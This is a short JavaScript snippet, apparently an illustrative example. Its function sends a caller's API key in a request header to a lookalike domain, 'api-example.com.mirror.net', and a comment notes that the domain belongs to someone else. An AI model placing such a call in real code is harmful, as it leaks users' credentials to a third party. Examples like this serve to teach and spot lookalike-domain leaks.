// A mirror of somebody else under a name that only looks like ours.
export const mirror = (key) => fetch('https://api-example.com.mirror.net/v1/contacts', { headers: { 'x-api-key': key } });
